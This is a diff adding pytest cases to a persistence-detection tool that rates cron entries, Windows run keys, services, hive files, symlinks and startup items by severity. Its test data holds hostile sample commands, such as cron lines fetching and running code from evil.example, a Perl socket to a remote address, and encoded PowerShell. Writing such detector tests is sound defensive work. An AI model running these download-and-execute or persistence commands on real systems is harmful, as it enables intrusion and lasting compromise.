@@ -117,6 +117,17 @@ def test_patterns_are_quick_on_hostile_text() -> None:
         ("1 1 * * * root curl -fsS https://status.example/ping", ""),
         ("1 1 * * * root /usr/local/bin/a #\r1 1 * * * root /usr/bin/true", "high"),
         ("1 1 * * * root tar czf /tmp/backup.tgz /etc", ""),
+        ('1 1 * * * root sh -c "$(curl -fsSL https://evil.example/x)"', "high"),
+        ("1 1 * * * root bash <(curl -s https://evil.example/x)", "high"),
+        ("1 1 * * * root eval `wget -qO- https://evil.example/x`", "high"),
+        ("1 1 * * * root curl -s https://evil.example/x | python3", "high"),
+        ("1 1 * * * root perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"198.51.100.7:1\")'", "high"),
+        ("1 1 * * * root cd /tmp && ./x", "high"),
+        ("1 1 * * * root cd /tmp && rm -f x", ""),
+        ("1 1 * * * root PATH=/tmp:$PATH backup", "high"),
+        ("PATH=/usr/bin:/dev/shm\n1 1 * * * root backup", "high"),
+        ("~ 1 * * * root /tmp/x", "high"),
+        ("1 1 * * * root python3 /opt/app/run.py -c socket.conf", ""),
         ("1 1 * * * root python3 -c \"exec(__import__('base64').b64decode('eA=='))\"", "high"),
     ],
 )
@@ -207,6 +218,13 @@ def test_preloaded_libraries_are_never_expected_and_hidden_ones_are_critical() -
         (r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe /c", ""),
         (r"C:\Windows\System32\rundll32.exe C:\Windows\System32\Windows.StateRepositoryClient.dll,x", ""),
         (r"C:\tools\x.exe", ""),
+        (r"powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "high"),
+        (r"powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "high"),
+        (r"C:\Program Files\App\..\..\Users\Public\x.exe", "high"),
+        (r"C:\Windows\System32\..\Temp\x.exe", "high"),
+        (r"explorer.exe C:\Users\Public\x.lnk", "medium"),
+        (r'wmic process call create "C:\Users\Public\x.exe"', "medium"),
+        (r'"C:\Program Files\App\app.exe" --log C:\Windows\Temp\app.log', ""),
     ],
 )
 def test_windows_commands_are_judged_by_place_and_manner(line: str, expected: str) -> None:
@@ -228,6 +246,119 @@ def test_windows_commands_are_judged_by_place_and_manner(line: str, expected: st
     found = DETECTION.match(ARTEFACTS["run_keys"].artefact, [record], WINDOWS)
     assert [h.severity for h in found] == ([expected] if expected else [])
     assert all(h.target and h.target["data"] == [line] and h.target["name"] == "v" for h in found)
+
+
+SYSTEM_KEY = "ControlSet001\\Services\\s"
+
+
+def service(image: str, dll: str = "") -> list[tuple[str, dict]]:
+    """(severity, target) of a service with this program and library."""
+    record = {
+        "event.dataset": "services",
+        "escadre.id": "r",
+        "escadre.source": "C:\\Windows\\System32\\config\\SYSTEM",
+        "service.name": "s",
+        "registry.hive": "HKLM\\SYSTEM",
+        "registry.key": SYSTEM_KEY,
+        "registry.path": f"HKLM\\SYSTEM\\{SYSTEM_KEY}",
+        "process.command_line": image,
+        "escadre.service.start": "auto",
+        "escadre.service.values": {"ImagePath.data_type": "REG_EXPAND_SZ", "ImagePath.data_bytes": "QQAAAA=="},
+    }
+    if dll:
+        record["escadre.service.dll"] = dll
+        place = f"HKLM\\SYSTEM\\{SYSTEM_KEY}\\Parameters"
+        record["escadre.service.values"] |= {"ServiceDll.data_type": "REG_SZ", "ServiceDll.value_key": place}
+    assert set(record) <= {*ARTEFACTS["services"].artefact.fields, "event.dataset", "escadre.id", "escadre.source"}
+    return [(h.severity, h.target or {}) for h in DETECTION.match(ARTEFACTS["services"].artefact, [record], WINDOWS)]
+
+
+@pytest.mark.parametrize(
+    ("image", "dll", "expected"),
+    [
+        (r"%SystemRoot%\PSEXESVC.exe", "", "medium"),
+        (r"C:\Windows\abcdEFgh.exe", "", "medium"),
+        (r"C:\Windows\Sysmon64.exe", "", ""),
+        (r"%SystemRoot%\system32\spoolsv.exe", "", ""),
+        (r"cmd /c tscon 2 /dest:rdp-tcp#5", "", "medium"),
+        (r"Temp\f.sys", "", "high"),
+        (r"System32\drivers\..\..\Temp\g.sys", "", "high"),
+        (r"system32\drivers\afd.sys", "", ""),
+        (r"%SystemRoot%\System32\svchost.exe -k x", r"%SystemRoot%\System32\..\Temp\s.dll", "high"),
+        (r"%SystemRoot%\System32\svchost.exe -k x", "evil.dll", "medium"),
+        (r"%SystemRoot%\System32\svchost.exe -k x", "winhttp.dll", ""),
+    ],
+)
+def test_services_are_judged_by_program_and_library(image: str, dll: str, expected: str) -> None:
+    assert [severity for severity, _ in service(image, dll)] == ([expected] if expected else [])
+
+
+def test_the_target_of_a_service_has_type_and_bytes_of_the_value_and_its_key() -> None:
+    ((_, target),) = service(r"C:\Users\Public\s.exe")
+    assert (target["value"], target["data_type"], target["data_bytes"]) == ("ImagePath", "REG_EXPAND_SZ", "QQAAAA==")
+    ((_, target),) = service(r"%SystemRoot%\System32\svchost.exe -k x", r"C:\Users\Public\s.dll")
+    assert (target["value"], target["data_type"], target["value_key"]) == (
+        "ServiceDll", "REG_SZ", f"HKLM\\SYSTEM\\{SYSTEM_KEY}\\Parameters",
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize(("hive", "software", "found"), [("?\\SOFTWARE.bak", "", 0), ("?\\NTUSER.bak", "Software\\", 1)])
+def test_a_renamed_hive_is_known_as_machine_or_user_by_its_keys(hive: str, software: str, found: int) -> None:
+    key = f"{software}Microsoft\\Windows NT\\CurrentVersion\\Winlogon"
+    record = {
+        "event.dataset": "winlogon",
+        "escadre.id": "r",
+        "registry.hive": hive,
+        "registry.key": key,
+        "registry.value": "Userinit",
+        "registry.path": f"{hive}\\{key}\\Userinit",
+        "registry.data.strings": ["C:\\Windows\\system32\\userinit.exe,"],
+        "process.command_line": "C:\\Windows\\system32\\userinit.exe,",
+    }
+    assert len(DETECTION.match(ARTEFACTS["winlogon"].artefact, [record], WINDOWS)) == found
+
+
+@pytest.mark.parametrize(
+    ("path", "link", "expected"),
+    [
+        ("/etc/systemd/system/e.service", "/dev/shm/e.service", ("L010", "high", "systemd-unit")),
+        ("/etc/systemd/system/e.service", "../../../var/tmp/e.service", ("L010", "high", "systemd-unit")),
+        ("/etc/systemd/system/e.service", "/home/a/e.service", ("L010", "medium", "systemd-unit")),
+        ("/etc/systemd/system/e.service", "/dev/null", None),
+        ("/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service", None),
+        ("/etc/systemd/system/multi-user.target.wants/e.service", "/dev/shm/e.service", None),
+        ("/etc/cron.d/c", "/tmp/c", ("L001", "high", "file")),
+        ("/var/spool/cron/crontabs/a", "/tmp/c", ("L003", "high", "file")),
+        ("/etc/ld.so.preload", "/tmp/p", ("L050", "high", "file")),
+        ("/root/.ssh/authorized_keys", "/dev/shm/k", ("L062", "high", "file")),
+        ("/etc/resolv.conf", "/tmp/r", None),
+    ],
+)
+def test_a_link_in_the_place_of_a_row_is_judged_by_where_it_leads(path: str, link: str, expected: tuple[str, str, str] | None) -> None:
+    lines = [{"member": 1, "path": path, "verdict": "link", "link": link, "mode": "0777", "uid": 0, "gid": 0}]
+    hits = DETECTION.of_links(lines, catalogue.matcher().by_path, "c", "h")
+    found = list(DETECTION.completed(DETECTION.findings(hits), {"c": Members(lines)}))
+    assert [(f["rule.id"], f["escadre.severity"], f["target"]["kind"]) for f in found] == ([expected] if expected else [])
+    assert all(f["target"]["path"] == path and f["target"]["data"] == link and f["target"]["file"]["link"] == link for f in found)
+
+
+STARTUP = "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "expected"),
+    [
+        ("a.url", b"[InternetShortcut]\r\nURL=file:///C:/Users/Public/x.exe\r\n", "high"),
+        ("a.url", b"[InternetShortcut]\r\nURL=file:///C:/Program%20Files/App/x.exe\r\n", ""),
+        ("bill.pdf.lnk", b"", "high"),
+        ("a.lnk", b"L\0\0\0", "low"),
+        ("a.exe", b"MZ", "high"),
+        ("desktop.ini", b"", ""),
+    ],
+)
+def test_startup_files_are_judged_by_their_kind_and_shortcuts_by_what_they_open(name: str, content: bytes, expected: str) -> None:
+    found = findings(f"{STARTUP}\\{name}", content, "startup_folder", WINDOWS)
+    assert [f["escadre.severity"] for f in found] == ([expected] if expected else [])
 
 
 # --- noise
